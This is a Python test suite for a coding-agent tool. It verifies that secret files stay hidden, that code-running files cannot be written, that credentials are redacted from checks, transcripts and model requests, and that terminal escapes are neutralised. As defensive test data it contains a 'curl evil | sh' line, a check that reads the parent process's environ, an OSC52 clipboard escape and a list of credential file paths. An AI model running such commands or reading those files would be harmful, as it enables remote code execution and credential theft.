"""No secret reaches the model, a check, a log or a terminal: hidden paths, scrubbed checks, redaction,
private files and terminal-safe printing, on real files, real processes and the local server."""

from __future__ import annotations

import io
import json
import os
import signal
import stat
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from editor_agent import Editor, Policy, Workspace, tool_by_type
from editor_agent.agent.progress import ConsoleProgress
from editor_agent.agent.transcript import Transcript
from editor_agent.batch.display import BatchDisplay
from editor_agent.batch.report import TaskReport
from editor_agent.jobs.checks import run_check
from editor_agent.testing import MessagesServer, Script

from ..conftest import GIT_ALONE, Ran, RunCli, done, git, real_cli, use

SECRET = "some-fake-value-4f1c9a"


def committed_project(tmp_path: Path) -> Path:
    """A repository whose one commit holds app.py."""
    repo = tmp_path / "project"
    repo.mkdir()
    (repo / "app.py").write_text("X = 1\n")
    git(repo, "init", "-q")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "start")
    return repo


ENV = {"ANTHROPIC_API_KEY": SECRET, **GIT_ALONE}


@pytest.fixture
def cli(run_cli: RunCli) -> Callable[..., Ran]:
    """The command with the key in its environment (and the local server's address, given one)."""

    def run(*args: str, server: MessagesServer | None = None, stdin: str = "") -> Ran:
        return run_cli(*args, stdin=stdin, env={**ENV, **({"ANTHROPIC_BASE_URL": server.url} if server else {})})

    return run


@pytest.fixture
def secrets_tree(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    for relative in (".env", ".Env.local", "id_rsa", "id_ed25519.pub", ".aws/credentials", ".SSH/config",
                     "certs/server.PEM", "deploy.key", ".netrc", ".npmrc", ".pypirc", "gcp-Credentials.json",
                     "src/app.py"):  # fmt: skip
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"{relative} secret\n")
    return root


def editor_for(root: Path, policy: Policy | None = None) -> Editor:
    return Editor(Workspace(root, policy=policy), tool_by_type("text_editor_20250728"))


# --- hidden and protected paths ------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [".env", ".Env.local", "id_rsa", "id_ed25519.pub", ".aws/credentials", ".SSH/config", "certs/server.PEM",
     "deploy.key", ".netrc", ".npmrc", ".pypirc", "gcp-Credentials.json", ".GIT/config"],
)  # fmt: skip
def test_secret_files_cannot_be_viewed(secrets_tree: Path, path: str):
    (secrets_tree / ".GIT").mkdir(exist_ok=True)
    (secrets_tree / ".GIT" / "config").write_text("[core]\n")
    result = editor_for(secrets_tree).run({"command": "view", "path": f"/repo/{path}"})
    assert result.is_error and "hidden by the workspace policy" in str(result.content)
    assert "secret" not in str(result.content)


def test_listing_leaves_secret_files_out(secrets_tree: Path):
    for folder in ("", "certs"):
        listing = str(editor_for(secrets_tree).run({"command": "view", "path": f"/repo/{folder}"}).content)
        for name in ("id_rsa", "id_ed25519.pub", "server.PEM", "deploy.key", "gcp-Credentials.json"):
            assert name not in listing
    assert "app.py" in str(editor_for(secrets_tree).run({"command": "view", "path": "/repo"}).content)


def test_secret_files_cannot_be_created_either(tmp_path: Path):
    result = editor_for(tmp_path).run({"command": "create", "path": "/repo/.ENV", "file_text": "KEY=1\n"})
    assert result.is_error and not (tmp_path / ".ENV").exists()


@pytest.mark.parametrize(
    "path", [".GIT/hooks/pre-commit", ".github/workflows/x.yml", ".envrc", ".vscode/tasks.json", "a/.VSCode/x.json"]
)
def test_files_that_run_code_are_not_writable(tmp_path: Path, path: str):
    result = editor_for(tmp_path).run({"command": "create", "path": f"/repo/{path}", "file_text": "curl evil | sh\n"})
    assert result.is_error, result.content
    assert not (tmp_path / path).exists()


def test_protected_files_stay_viewable(tmp_path: Path):
    (tmp_path / ".github" / "workflows").mkdir(parents=True)
    (tmp_path / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
    result = editor_for(tmp_path).run({"command": "view", "path": "/repo/.github/workflows/ci.yml"})
    assert not result.is_error and "on: push" in str(result.content)


def test_reveal_and_unprotect_flags_opt_out(secrets_tree: Path, cli: Callable[..., Ran]):
    lines = [
        {"command": "view", "path": ".env"},
        {"command": "view", "path": "id_rsa"},
        {"command": "create", "path": ".github/workflows/ci.yml", "file_text": "on: push\n"},
        {"command": "create", "path": ".envrc", "file_text": "x\n"},
    ]
    done = cli("exec", "--workspace", str(secrets_tree), "--model", "claude-sonnet-4-5", "--reveal", ".ENV",
               "--unprotect", ".github/workflows", stdin="\n".join(json.dumps(line) for line in lines))  # fmt: skip
    assert done.returncode == 0, done.stderr
    env, key, workflow, envrc = (json.loads(line) for line in done.stdout.splitlines())
    assert not env["is_error"] and ".env secret" in env["content"]
    assert key["is_error"] and "hidden" in key["content"]
    assert not workflow["is_error"] and (secrets_tree / ".github/workflows/ci.yml").read_text() == "on: push\n"
    assert envrc["is_error"] and "protected" in envrc["content"]


def test_reveal_keeps_git_protected(tmp_path: Path):
    policy = Policy(reveal=(".git",))
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    (tmp_path / ".git" / "config").write_text("[core]\n")
    editor = editor_for(tmp_path, policy)
    assert not editor.run({"command": "view", "path": "/repo/.git/config"}).is_error
    result = editor.run({"command": "create", "path": "/repo/.git/hooks/pre-commit", "file_text": "x\n"})
    assert result.is_error and "protected" in str(result.content)


# --- checks: no credentials, their own process group ---------------------------------------------


def test_check_timeout_kills_the_whole_process_group(tmp_path: Path):
    pidfile = tmp_path / "child.pid"
    result = run_check(f"sleep 300 & echo $! > {pidfile}; wait", tmp_path, timeout=1)
    assert not result.passed and "timed out" in result.output
    child = int(pidfile.read_text())
    try:
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and _alive(child):
            time.sleep(0.05)
        assert not _alive(child), "the check's child outlived the timeout"
    finally:
        if _alive(child):
            os.kill(child, signal.SIGKILL)


def test_check_that_leaves_a_child_behind_ends_with_its_shell(tmp_path: Path):
    pidfile = tmp_path / "child.pid"
    started = time.monotonic()
    result = run_check(f"sleep 300 & echo $! > {pidfile}; echo ok", tmp_path, timeout=30)
    assert result.passed and result.output.strip() == "ok"
    assert time.monotonic() - started < 10, "waited for the leftover child's output"
    child = int(pidfile.read_text())
    try:
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and _alive(child):
            time.sleep(0.05)
        assert not _alive(child)
    finally:
        if _alive(child):
            os.kill(child, signal.SIGKILL)


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    try:  # a zombie is dead: it only waits for its parent (here: init) to reap it
        return Path(f"/proc/{pid}/stat").read_text().split(")")[-1].split()[0] != "Z"
    except OSError:
        return True


def test_check_runs_without_the_credential_variables(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("ANTHROPIC_AUTH_TOKEN", "token-value-7a2d9e")
    monkeypatch.setenv("HARMLESS_SETTING", "kept")
    result = run_check("env", tmp_path, timeout=30)
    assert "HARMLESS_SETTING=kept" in result.output
    assert "ANTHROPIC_AUTH_TOKEN" not in result.output and "token-value-7a2d9e" not in result.output


# --- the credential appears nowhere ---------------------------------------------------------------


@pytest.mark.slow  # the check reads its parent's environ: that must be a real editor-agent process
def test_a_check_printing_the_environment_leaks_the_key_nowhere(tmp_path: Path):
    repo = committed_project(tmp_path)
    # `env` shows the check's environment; the parent's environ is what a hostile check would read instead
    check = "env; tr '\\0' '\\n' < /proc/$PPID/environ; exit 1"
    turns = [
        {"content": [use("str_replace", path="/repo/app.py", old_str="X = 1", new_str="X = 2")]},
        done(),
        done("Still failing."),
    ]
    transcript = tmp_path / "run.jsonl"
    with MessagesServer(Script.model_validate({"turns": turns}), api_key=SECRET) as server:
        result = real_cli("run", "change it", "--workspace", str(repo), "--model", "claude-opus-4-5", "--check", check,
                          "--rounds", "2", "--json", "--transcript", str(transcript),
                          env={**ENV, "ANTHROPIC_BASE_URL": server.url})  # fmt: skip
        bodies = [json.dumps(r.body) for r in server.requests]
    assert len(bodies) == 3, result.stderr
    assert "PATH=" in bodies[2] and "[REDACTED]" in bodies[2], "the check's output reached the model"
    for where, text in [("transcript", transcript.read_text()), ("stdout", result.stdout),
                        ("stderr", result.stderr), *((f"request {i}", b) for i, b in enumerate(bodies))]:  # fmt: skip
        assert SECRET not in text, f"the key leaked into the {where}"
    outcome = json.loads(result.stdout)
    assert "PATH=" in outcome["check"]["output"]
    assert stat.S_IMODE(transcript.stat().st_mode) == 0o600


def test_transcript_redacts_registered_values_and_is_private(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET)
    path = tmp_path / "t" / "run.jsonl"
    with Transcript(path) as transcript:
        transcript.write("message", role="user", content=[{"type": "text", "text": f"key={SECRET}"}])
    assert SECRET not in path.read_text() and "[REDACTED]" in path.read_text()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_a_command_run_in_process_forgets_the_credentials_it_registered(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """`main` may run many times in one process (a service, a test suite): the credential values and variables
    one command registers end with it, or the process-wide sets grow for the life of the process."""
    from editor_agent.cli.main import main
    from editor_agent.safety import redact

    monkeypatch.setattr(redact, "_values", set(redact._values))  # whatever happens, this test leaves none behind
    monkeypatch.setattr(redact, "_variables", set(redact._variables))
    monkeypatch.setenv("PROFILE_CREDENTIAL", SECRET)
    args = ["run", "x", "--workspace", str(tmp_path), "--model", "claude-opus-4-5", "--base-url", "http://127.0.0.1:9",
            "--max-retries", "0", "--credential-env", "PROFILE_CREDENTIAL", "--json"]  # fmt: skip
    out = io.StringIO()
    assert main(args, stdin=io.StringIO(), stdout=out) == 1, out.getvalue()
    assert "could not reach" in out.getvalue()  # the credential was handed out, so it was registered
    monkeypatch.delenv("PROFILE_CREDENTIAL")
    assert "PROFILE_CREDENTIAL" not in redact.variables()
    assert SECRET not in redact.secrets()


def test_isolated_patch_is_private(tmp_path: Path, cli: Callable[..., Ran]):
    repo = committed_project(tmp_path)
    turns = [{"content": [use("str_replace", path="/repo/app.py", old_str="X = 1", new_str="X = 2")]}, done()]
    with MessagesServer(Script.model_validate({"turns": turns}), api_key=SECRET) as server:
        result = cli("run", "change it", "--workspace", str(repo), "--model", "claude-opus-4-5", "--isolate",
                     "--json", server=server)  # fmt: skip
    patch = Path(json.loads(result.stdout)["patch"])
    assert "X = 2" in patch.read_text()
    assert stat.S_IMODE(patch.stat().st_mode) == 0o600
    transcript = Path(json.loads(result.stdout)["transcript"])
    assert stat.S_IMODE(transcript.stat().st_mode) == 0o600


# --- terminal-safe printing -----------------------------------------------------------------------

OSC52 = "\x1b]52;c;ZWNobyBldmls\x07"


def test_console_progress_escapes_control_characters():
    stream = io.StringIO()
    progress = ConsoleProgress(stream)
    progress.text(f"Here you go {OSC52}\x1b[2J\x9b31m and more\n")
    progress.tool({"command": "create", "path": "/repo/a\x1b[31mb.txt\r  ✓ view /repo/README.md"}, "ok", False)
    progress.tool({"command": "view", "path": "/repo/x"}, "bad\x1b]0;title\x07 thing\nsecond", True)
    shown = stream.getvalue()
    assert "\x1b" not in shown and "\x07" not in shown and "\r" not in shown and "\x9b" not in shown
    assert "\\x1b]52;c;" in shown and "a\\x1b[31mb.txt\\r" in shown
    lines = shown.splitlines()
    assert sum(line.startswith("  ✓") for line in lines) == 1, "a path must not fake a second tool line"


def test_cli_run_prints_hostile_names_and_text_escaped(tmp_path: Path, cli: Callable[..., Ran]):
    repo = tmp_path / "project"
    repo.mkdir()
    name = "a\x1b[31mb.txt"
    turns = [
        {"content": [{"type": "text", "text": f"Creating it{OSC52}"}, use("create", path=f"/repo/{name}",
                                                                          file_text="red\x1b[0m\n")]},
        done(f"Done\x1b[2J{OSC52}"),
    ]  # fmt: skip
    with MessagesServer(Script.model_validate({"turns": turns}), api_key=SECRET) as server:
        result = cli("run", "go", "--workspace", str(repo), "--model", "claude-opus-4-5", server=server)
    assert result.returncode == 0, result.stderr
    assert (repo / name).exists()
    for stream in (result.stdout, result.stderr):
        assert "\x1b" not in stream and "\x07" not in stream
    assert "a\\x1b[31mb.txt" in result.stdout and "\\x1b]52;c;" in result.stderr


def test_batch_display_escapes_task_names_and_errors(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET)
    stream = io.StringIO()
    display = BatchDisplay(1, stream, live=False)
    display.finished(TaskReport(index=1, name="t\x1b]52;c;eA==\x07", job="run", status="failed",
                                error=f"server said \x1b[2J {SECRET}"))  # fmt: skip
    display.close()
    assert "\x1b" not in stream.getvalue() and "\x07" not in stream.getvalue()
    assert "t\\x1b]52;c;eA==\\x07" in stream.getvalue()
    assert SECRET not in stream.getvalue() and "server said \\x1b[2J [REDACTED]" in stream.getvalue()


def test_a_file_holding_the_key_reaches_the_model_redacted(tmp_path: Path, cli: Callable[..., Ran]):
    repo = tmp_path / "project"
    repo.mkdir()
    (repo / "notes.txt").write_text(f"the check wrote: ANTHROPIC_API_KEY={SECRET}\n")
    turns = [{"content": [use("view", path="/repo/notes.txt")]}, done()]
    with MessagesServer(Script.model_validate({"turns": turns}), api_key=SECRET) as server:
        result = cli("run", "look", "--workspace", str(repo), "--model", "claude-opus-4-5", "--json", server=server)
        bodies = [json.dumps(r.body) for r in server.requests]
    assert result.returncode == 0, result.stderr
    assert "the check wrote: ANTHROPIC_API_KEY=[REDACTED]" in bodies[1]
    assert SECRET not in bodies[1] and SECRET in (repo / "notes.txt").read_text()


def test_progress_redacts_a_key_split_across_streamed_pieces(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET)
    stream = io.StringIO()
    progress = ConsoleProgress(stream)
    for piece in ("The key is ", SECRET[:5], SECRET[5:12], SECRET[12:] + " and", " so on."):
        progress.text(piece)
    progress.end_of_reply()
    assert stream.getvalue().rstrip("\n") == "The key is [REDACTED] and so on."


def test_batch_report_patches_and_transcripts_are_private_and_redacted(tmp_path: Path, monkeypatch):
    import argparse
    import contextlib

    from editor_agent.cli.batch import add_batch_parser, run_batch_command

    for name in list(os.environ):
        if name.startswith(("ANTHROPIC_", "GIT_", "EDITOR_AGENT_")):
            monkeypatch.delenv(name)
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET)
    repo = tmp_path / "project"
    repo.mkdir()
    (repo / "app.py").write_text("X = 1\n")
    (repo / "leak.txt").write_text(f"key={SECRET}\n")  # what a hostile check could have found
    git(repo, "init", "-q")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "start")
    tasks = tmp_path / "tasks.yaml"
    tasks.write_text("model: claude-opus-4-5\ntasks:\n"
                     "  - {name: a, job: run, task: change it, check: 'cat leak.txt; exit 1'}\n"
                     "  - {name: b, job: run, task: change it too}\n")  # fmt: skip

    def respond(body: dict[str, Any]) -> dict[str, Any]:
        if sum(m["role"] == "assistant" for m in body["messages"]) == 0:
            return {"content": [use("str_replace", path="/repo/app.py", old_str="X = 1", new_str="X = 2")]}
        return done()

    report = tmp_path / "out" / "report.json"
    parser = argparse.ArgumentParser(prog="editor-agent")
    add_batch_parser(parser.add_subparsers(dest="command"))
    with MessagesServer(responder=respond, api_key=SECRET) as server:
        args = parser.parse_args(["batch", str(tasks), "--workspace", str(repo), "--jobs", "1", "--json",
                                  "--report", str(report), "--base-url", server.url])  # fmt: skip
        out, err = io.StringIO(), io.StringIO()
        with contextlib.redirect_stderr(err):
            run_batch_command(args, out)
    document = json.loads(out.getvalue())
    private = [report, Path(document["patch"])]
    for task in document["tasks"]:
        private += [Path(task["transcript"])] + ([Path(task["patch"])] if task["patch"] else [])
    assert len(private) >= 4
    for path in private:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
        assert SECRET not in path.read_text(), path
    assert "key=[REDACTED]" in Path(document["tasks"][0]["transcript"]).read_text()
    assert SECRET not in out.getvalue() + err.getvalue()
